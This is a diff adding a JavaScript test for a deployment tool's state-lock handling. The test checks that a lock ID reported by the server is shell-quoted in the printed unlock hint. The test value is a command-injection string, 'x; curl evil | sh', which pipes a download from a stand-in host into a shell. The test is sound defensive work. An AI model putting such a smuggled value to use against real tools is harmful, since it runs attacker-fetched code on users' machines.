@@ -161,6 +161,18 @@ test('a lock of which the server does not tell the id is named by the document, 
   await next.close()
 })
 
+test('the id of a lock is one word of the command that is named, whatever the server says', async () => {
+  const { server, options, open } = await begun()
+  const id = 'x; curl evil | sh'
+  server.lock = { ID: id, Who: 'somebody' }
+  for (const refused of [open, () => unlockState(options, { id: 'x' }, system)])
+    await expect(refused()).rejects.toMatchObject({
+      hint: expect.stringContaining(`deploymgmt state unlock 'x; curl evil | sh'`),
+    })
+  await unlockState(options, { id }, system)
+  expect(server.lock).toBeUndefined()
+})
+
 test('an attempt at the lock that was not heard of, at a server that tells no id, prints its own', async () => {
   const { server, options, open } = await begun()
   server.fate = ({ method }) => {
